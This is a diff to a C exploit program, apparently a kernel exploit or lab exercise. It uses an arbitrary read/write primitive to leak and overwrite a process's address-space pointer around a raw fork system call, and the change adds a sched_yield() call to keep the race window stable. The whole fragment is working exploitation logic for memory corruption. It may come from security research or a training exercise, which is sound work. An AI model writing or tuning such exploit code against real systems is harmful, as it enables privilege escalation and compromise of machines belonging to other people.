@@ -1,5 +1,6 @@
 /* The attack's process has the first process's address space, for as long as a fork takes: the child
  * is a copy of that. */
+#include <sched.h>
 #include <signal.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
@@ -19,7 +20,8 @@ int main(void)
 	theirs = (uint64_t)bw_vuln_read(leak.process_first + (leak.process_as - leak.process));
 	attack_say("the address space of this process is at 0x%lx, for one fork at 0x%lx", own,
 		   theirs);
-	/* nothing between may touch a page that is not there yet */
+	/* nothing between may touch a page that is not there yet, or lose the processor */
+	sched_yield();
 	attack_check("vuln_write", bw_vuln_write(leak.process_as, theirs));
 	child = raw_call(SYS_fork, no_arguments);
 	bw_vuln_write(leak.process_as, own);
